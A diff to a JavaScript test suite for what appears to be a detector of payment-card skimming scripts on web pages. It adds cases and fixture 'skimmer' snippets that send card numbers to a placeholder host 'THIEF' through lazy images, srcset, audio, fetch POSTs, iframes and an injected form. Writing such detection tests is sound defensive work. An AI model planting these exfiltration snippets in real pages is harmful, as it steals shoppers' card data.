@@ -24,6 +24,11 @@ describe('a way out is found with its script: ', () => {
       'sends-image',
       `document.body.insertAdjacentHTML('beforeend', '<img src="http://THIEF/h?' + pan + '">')`,
     ],
+    [
+      'an image loaded lazily',
+      'sends-image',
+      `const k = new Image(); k.loading = 'lazy'; document.body.prepend(k); k.src = 'http://THIEF/z?' + pan`,
+    ],
     ['a srcset', 'sends-image', `new Image().srcset = 'http://THIEF/s?' + pan + ' 1x'`],
     ['a sound', 'sends-other', `new Audio('http://THIEF/au?' + pan).load()`],
     [
@@ -140,4 +145,36 @@ describe('a native function replaced', () => {
       expect.objectContaining({ kind: 'overrides-native', target: 'Navigator.sendBeacon', scriptId: [...thieves][0] }),
     )
   })
+})
+
+it('a form made among thousands of elements with handlers is put down to its maker', async () => {
+  const shop = `for (let i = 0; i < 3200; i++) { const a = document.createElement('a'); a.setAttribute('onclick', 'go(' + i + ')'); document.body.append(a) }`
+  const skimmer = onChange(
+    `document.body.insertAdjacentHTML('beforeend', '<form action="http://THIEF/q"><input autocomplete=cc-number></form>')`,
+  )
+  const watched = await watchPage(browser, { shop, skimmer })
+  expect([...kindsOf(watched)]).toEqual(expect.arrayContaining(['inserts-form', 'inserts-field']))
+})
+
+it('what is sent before a card is read is dated before', async () => {
+  const skimmer = `const early = () => fetch('http://THIEF/early', { method: 'POST', mode: 'no-cors', body: 'x' })
+    document.getElementById('mail').addEventListener('input', early, { once: true })
+    document.getElementById('card').addEventListener('change', function () { window.kept = this.value.length })`
+  const { behaviours } = await watchPage(browser, { skimmer })
+  const sent = behaviours.find((one) => one.kind === 'sends-fetch')
+  const read = behaviours.find((one) => one.kind === 'reads-field' && one.fieldKind === 'card-number')
+  expect(sent?.phase).toBe('typing')
+  expect(sent?.atMs).toBeLessThan(read?.atMs ?? 0)
+})
+
+it('a script that reads only at the last key is found, whatever another does between', async () => {
+  const skimmer = `let keys = 0
+    document.getElementById('card').addEventListener('keyup', function take() {
+      keys++
+      if (keys === 9) setTimeout(() => { const k = document.createElement('iframe'); k.src = 'http://THIEF/frame'; document.body.append(k) })
+      if (keys === 11) document.cookie = 'k=1'
+      if (keys === 16) window.kept = this.value
+    })`
+  const watched = await watchPage(browser, { skimmer })
+  expect(kindsOf(watched)).toContain('reads-field')
 })
